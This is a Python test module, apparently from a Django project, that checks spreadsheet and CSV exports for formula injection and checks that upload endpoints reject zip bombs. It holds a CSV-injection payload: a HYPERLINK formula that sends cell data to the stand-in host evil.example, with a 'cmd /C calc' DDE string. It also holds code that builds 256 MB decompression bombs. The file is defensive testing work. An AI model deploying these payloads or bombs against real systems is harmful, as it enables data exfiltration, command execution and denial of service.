"""Files of tables: no cell that goes out is a formula, and no bomb that comes in is unpacked.

Bombs of each format: tests/citymgmt/test_spreadsheets.py, tests/grids/formats (hostile.py), and
of Word tests/inspections/word/test_archive.py; here every address that takes a sheet or a template
is asked.
"""

import csv
import io
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.attack.asking import (
    GETS,
    POSTS,
    address,
    body_of,
    browser,
    reader,
    send,
    taken_back,
)
from tests.attack.marks import write_into_texts
from tests.house.url_table import Row
from tests.house.url_world import World

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"cmd|\' /C calc\'!A0")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
GOING_OUT = [*GETS, *(row for row in POSTS if row.name in ("cases:export", "grids:place_export"))]
XLSX = "spreadsheetml"


def formulas(content: bytes, media_type: str) -> list[str]:
    """The cells that a spreadsheet would reckon."""
    if XLSX in media_type:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for line in sheet for cell in line]
        return [str(cell.value) for cell in cells if cell.data_type == "f"]
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [cell for line in lines for cell in line if cell.lstrip().startswith(STARTS)]


@pytest.mark.django_db
def test_nothing_that_people_typed_is_a_formula_in_any_file(world: World):
    asked = [(row, address(row, world), row.query(world, reader(row))) for row in GOING_OUT]
    bodies = {row.label: body_of(row, world, reader(row)) for row in GOING_OUT if row in POSTS}
    write_into_texts(lambda _model, _field: FORMULA)
    found, told = {}, 0
    for row, url, query in asked:
        client = browser(world, reader(row))
        with taken_back():
            if row in POSTS:
                answer = send(client, row, url, bodies[row.label], world)
            else:
                answer = client.get(url, query)
            media_type = answer.get("Content-Type", "")
            if XLSX not in media_type and "csv" not in media_type:
                continue
            content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        told += FORMULA[:12] in content.decode("utf-8", "replace") or XLSX in media_type
        cells = formulas(content, media_type)
        if cells:
            found[row.label] = cells[:3]
    assert found == {}
    assert told > 6


def bomb(name: str, size: int) -> bytes:
    """A zip archive of a member that grows to so many bytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open(name, "w", force_zip64=True) as member:
            for _megabyte in range(size // 2**20):
                member.write(bytes(2**20))
    return out.getvalue()


TAKING_FILES = [
    row
    for row in POSTS
    if row.name
    in {
        "cases:ledger_imports", "grids:table", "grids:place_import",
        "grids:assignments_import", "inspections:problem_ledger_import",
        "inspections:template_try", "inspections:template_upload",
    }
]  # fmt: skip


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    """A quarter of a gigabyte each, in a megabyte."""
    names = {"xlsx": "xl/worksheets/sheet1.xml", "docx": "word/document.xml"}
    return {suffix: bomb(name, 256 * 2**20) for suffix, name in names.items()}


def _suffix(row: Row) -> str:
    return "docx" if "template" in row.name else "xlsx"


@pytest.mark.long
@pytest.mark.django_db
def test_a_bomb_is_refused_by_every_address_that_takes_a_file(world: World, bombs):
    assert len({row.name for row in TAKING_FILES}) == 7
    for row in TAKING_FILES:
        person, url = reader(row), address(row, world)
        suffix = _suffix(row)
        body = body_of(row, world, person)
        body["file"] = SimpleUploadedFile(f"x.{suffix}", bombs[suffix])
        client = browser(world, person)
        tracemalloc.start()
        with taken_back():
            answer = send(client, row, url, body, world)
            if answer.status_code == 302:
                # Kept as it came; the page to which it leads has looked at it.
                answer = client.get(answer["Location"])
                refused = "解压后过大" in answer.content.decode()
            else:
                refused = answer.status_code in (400, 422)
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert refused, (row.label, answer.status_code)
        assert most < 64 * 2**20, row.label
